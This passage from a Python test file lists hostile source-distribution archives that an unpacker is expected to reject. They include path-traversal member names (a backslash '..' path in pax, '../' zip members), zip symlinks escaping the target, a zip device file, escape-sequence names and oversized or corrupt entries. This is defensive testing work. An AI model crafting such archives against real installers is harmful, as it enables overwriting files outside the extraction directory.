    _sdist_case("long-name", sdist_long_name, error("File name too long"), "a 5,000-byte name"),
    _sdist_case("deep-name", sdist_deep_name, error("directories deep"), "3,000 levels deep"),
    _sdist_case("escape-names", sdist_escape_names, error("backslash"), "terminal/HTML/bidi names"),
    _sdist_case("backslash-name", sdist_nul_name, error("backslash"), "a\\..\\..\\b in pax"),
    _sdist_case("huge-pkg-info", sdist_huge_pkg_info, Expect(extracted=True), "5 MiB PKG-INFO"),
    _sdist_case("zip-symlink-out", sdist_zip_symlink_out, error("symlink"), "zip symlink out"),
    _sdist_case("zip-device", sdist_zip_device, error("special file"), "zip char device"),
    _sdist_case("zip-dotdot", sdist_zip_dotdot, error("'..'"), "zip ../ member"),
    _sdist_case("zip-corrupt", sdist_zip_corrupt, error("corrupt or truncated"), "zip damaged"),
]

CORPUS: list[Case] = [*WHEEL_CASES, *ELF_CASES, *SDIST_CASES]
_names_seen = [c.name for c in CORPUS]
assert len(_names_seen) == len(set(_names_seen)), "case names must be unique"
